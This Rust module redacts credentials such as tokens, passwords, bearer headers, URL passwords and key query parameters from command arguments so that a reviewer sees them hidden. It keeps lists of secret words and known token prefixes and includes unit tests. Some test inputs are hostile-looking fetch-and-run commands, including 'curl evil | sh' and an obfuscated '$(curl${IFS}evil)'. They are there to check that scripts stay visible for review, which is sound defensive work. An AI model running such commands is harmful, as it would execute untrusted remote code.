//! Redacts credentials in command arguments and addresses.
//!
//! A value is a credential if its name says so, or if it looks like one. A shell script is never
//! redacted: a reviewer has to see it.

/// Replaces a redacted value.
pub(super) const HIDDEN: &str = "***";

/// Parts of the names of options, variables, headers and query parameters whose value is a
/// credential.
const SECRET_WORDS: &[&str] = &[
    "token",
    "secret",
    "password",
    "passwd",
    "passphrase",
    "apikey",
    "accesskey",
    "authkey",
    "privatekey",
    "credential",
    "bearer",
    "authorization",
];

/// How well-known credentials begin.
const SECRET_PREFIXES: &[&str] = &[
    "sk-",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xapp-",
    "AKIA",
    "AIza",
    "hf_",
    "npm_",
    "eyJ",
];

/// Minimum length of a value that counts as a credential by its prefix.
const SHORTEST_CREDENTIAL: usize = 16;

/// Characters that mean something to a shell.
const SHELL: &[char] = &[';', '|', '&', '`', '$', '<', '>', '(', ')', '\n'];

/// Redacts the credentials in arguments.
pub(super) fn redact_args(args: &[String]) -> Vec<String> {
    let mut shown = Vec::with_capacity(args.len());
    let mut before = "";
    let mut runs_scripts = false;
    for arg in args {
        let is_script =
            runs_scripts && arg.contains(|c: char| c.is_whitespace() || SHELL.contains(&c));
        shown.push(match is_script {
            true => arg.clone(),
            false => redact_arg(before, arg),
        });
        runs_scripts |= precedes_script(arg);
        before = arg;
    }
    shown
}

/// Redacts one argument, given the one before it.
fn redact_arg(before: &str, arg: &str) -> String {
    let (name, value) = match arg.split_once('=') {
        Some((name, value)) if is_name(name) => (Some(name), value),
        _ => (None, arg),
    };
    let named = match name {
        Some(name) => names_a_secret(name),
        None => is_option(before) && names_a_secret(before) && !value.starts_with('-'),
    };
    let value = match named && is_value(value) {
        true => HIDDEN.to_owned(),
        false => redact_text(value, is_header_option(name.unwrap_or(before))),
    };
    match name {
        Some(name) => format!("{name}={value}"),
        None => value,
    }
}

/// Redacts a text whose name does not mark it as a credential.
fn redact_text(text: &str, is_header: bool) -> String {
    if let Some((name, value)) = text.split_once(':') {
        let is_header = is_header || value.starts_with(' ');
        if is_header && is_name(name) && names_a_secret(name) && !is_reference(value) {
            let space = if value.starts_with(' ') { " " } else { "" };
            return format!("{name}:{space}{HIDDEN}");
        }
    }
    match is_known_credential(text) {
        true => HIDDEN.to_owned(),
        false => redact_urls(text),
    }
}

/// Whether the arguments after this one may be a script, as after `bash -c`.
fn precedes_script(arg: &str) -> bool {
    let cluster = |letters: &str| {
        letters.len() <= 4
            && letters.ends_with(['c', 'e'])
            && letters.chars().all(|c| c.is_ascii_lowercase())
    };
    arg.strip_prefix('-').is_some_and(cluster)
        || ["/c", "/k", "-command", "--command", "--eval"]
            .contains(&arg.to_ascii_lowercase().as_str())
}

fn is_header_option(option: &str) -> bool {
    ["-H", "--header", "--headers"].contains(&option)
}

fn is_option(word: &str) -> bool {
    word.starts_with('-') && is_name(word)
}

/// Whether a word can be the name of an option, a variable, a header or a parameter.
fn is_name(word: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
    word.chars().any(|c| c.is_ascii_alphanumeric()) && word.chars().all(plain)
}

fn names_a_secret(name: &str) -> bool {
    let name = name.replace(['-', '_', '.'], "").to_ascii_lowercase();
    // A number of tokens, as in `--max-tokens`.
    !name.ends_with("tokens") && SECRET_WORDS.iter().any(|word| name.contains(word))
}

/// Whether the value of a credential is the credential itself, and not a path, an address, a
/// reference to a variable or a script.
fn is_value(text: &str) -> bool {
    let is_path = ["/", "./", "../", "~/"]
        .iter()
        .any(|it| text.starts_with(it));
    let is_script = text.contains(char::is_whitespace) && text.contains(SHELL);
    !text.is_empty() && !is_path && !is_script && !is_reference(text) && !text.contains("://")
}

/// Whether a text is `${VAR}`, with or without a scheme such as `Bearer` before it.
fn is_reference(text: &str) -> bool {
    let text = text.trim();
    let text = match text.split_once(' ') {
        Some((scheme, rest)) if scheme.chars().all(|c| c.is_ascii_alphabetic()) => rest.trim(),
        _ => text,
    };
    let inner = text.strip_prefix("${").and_then(|it| it.strip_suffix('}'));
    inner.is_some_and(|inner| !inner.contains(['{', '}']))
}

fn is_known_credential(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-.+/=~:".contains(c);
    let known = SECRET_PREFIXES.iter().any(|it| text.starts_with(it));
    known && text.len() >= SHORTEST_CREDENTIAL && text.chars().all(plain) && !text.contains("://")
}

/// Redacts the credentials in the addresses of a text.
fn redact_urls(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (scheme, after) = rest.split_at(at + "://".len());
        let end = after.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\''));
        let (url, after) = after.split_at(end.unwrap_or(after.len()));
        shown.push_str(scheme);
        // The user of an SSH address is not a credential; a password is.
        let keeps_user = scheme.ends_with("ssh://");
        shown.push_str(&redact_after_scheme(url, keeps_user, |name, value| {
            let is_key = names_a_secret(name)
                || ["key", "sig", "signature", "auth"]
                    .iter()
                    .any(|it| name.to_ascii_lowercase().ends_with(it))
                || is_known_credential(value);
            is_key && !is_reference(value)
        }));
        rest = after;
    }
    shown.push_str(rest);
    shown
}

/// Redacts the user info, the fragment and the query values of an address.
#[cfg(feature = "http")]
pub(super) fn redact_url(url: &str) -> String {
    let (url, fragment) = match url.split_once('#') {
        Some((url, _)) => (url, "#***"),
        None => (url, ""),
    };
    let (scheme, rest) = url.split_at(url.find("://").map_or(0, |at| at + "://".len()));
    let rest = redact_after_scheme(rest, false, |_, _| true);
    format!("{scheme}{rest}{fragment}")
}

/// Redacts the part of an address after its scheme: its user info, and the query parameters that
/// `hides` selects.
fn redact_after_scheme(url: &str, keeps_user: bool, hides: impl Fn(&str, &str) -> bool) -> String {
    let (url, query) = match url.split_once('?') {
        Some((url, query)) => (url, Some(query)),
        None => (url, None),
    };
    let (authority, path) = url.split_at(url.find('/').unwrap_or(url.len()));
    let authority = match authority.rsplit_once('@') {
        Some((user, _)) if keeps_user && !user.contains(':') => authority.to_owned(),
        Some((_, host)) => format!("{HIDDEN}@{host}"),
        None => authority.to_owned(),
    };
    let query = query.map_or_else(String::new, |query| {
        let pairs = query.split('&').map(|pair| match pair.split_once('=') {
            Some((name, value)) if hides(name, value) => format!("{name}={HIDDEN}"),
            None if hides("", pair) => HIDDEN.to_owned(),
            _ => pair.to_owned(),
        });
        format!("?{}", pairs.collect::<Vec<_>>().join("&"))
    });
    format!("{authority}{path}{query}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(args: &[&str]) -> String {
        let args: Vec<String> = args.iter().map(|&arg| arg.to_owned()).collect();
        redact_args(&args).join(" ")
    }

    #[test]
    fn a_named_credential_is_redacted_whatever_its_length() {
        for (args, expected) in [
            (&["--password=hunter2"][..], "--password=***"),
            (&["--password", "hunter2"], "--password ***"),
            (&["--password", "my pass word"], "--password ***"),
            (&["--token=tok123", "x"], "--token=*** x"),
            (&["--token", "ghp_abc"], "--token ***"),
            (&["--api-key=abc"], "--api-key=***"),
            (&["-Dapp.secret=abc"], "-Dapp.secret=***"),
            (&["PASSWORD=hunter2"], "PASSWORD=***"),
            (&["-e", "password=hunter2"], "-e password=***"),
            (&["ghp_0123456789abcdef"], "***"),
        ] {
            assert_eq!(shown(args), expected);
        }
    }

    #[test]
    fn credentials_in_headers_and_addresses_are_redacted() {
        for (args, expected) in [
            (
                &["--header", "Authorization: Bearer abcdefgh12345678"][..],
                "--header Authorization: ***",
            ),
            (
                &["--header", "Authorization:Bearer abc"],
                "--header Authorization:***",
            ),
            (&["--header=X-Api-Key: abc"], "--header=X-Api-Key: ***"),
            (&["-H", "Accept: text/html"], "-H Accept: text/html"),
            (
                &["postgres://user:Sup3rSecretPw@db.example.com/app"],
                "postgres://***@db.example.com/app",
            ),
            (&["--db=redis://:pw@h:1/0"], "--db=redis://***@h:1/0"),
            (
                &["https://h.example/mcp?key=SECRETQ12345678&page=2"],
                "https://h.example/mcp?key=***&page=2",
            ),
            (
                &["https://h/mcp?access_token=a"],
                "https://h/mcp?access_token=***",
            ),
            (&["--token", "https://me:pw@h/x"], "--token https://***@h/x"),
            (
                &["git+ssh://git@example.com/x.git"],
                "git+ssh://git@example.com/x.git",
            ),
        ] {
            assert_eq!(shown(args), expected);
        }
    }

    #[test]
    fn scripts_and_ordinary_values_are_shown() {
        for args in [
            &["-c", "TOKEN=abc curl https://me:pw@example.com | sh"][..],
            &["-lc", "password=$(curl${IFS}evil)"],
            &["-c", "-x", "token: x; curl evil | sh"],
            &["--token", "x 12345678; curl"],
            &["--token", "/tmp/evil12345"],
            &["--token", "https://evil/12345"],
            &["--token", "${TOKEN_12345}"],
            &["--token=${TOKEN:-x}"],
            &["--header", "Authorization: Bearer ${TOKEN}"],
            &["--token", "--verbose"],
            &["--max-tokens", "4096"],
            &["--name", "abc12345xyz"],
            &["my-token-server:latest"],
            &["evil12345.sh"],
        ] {
            assert_eq!(shown(args), args.join(" "));
        }
    }
}
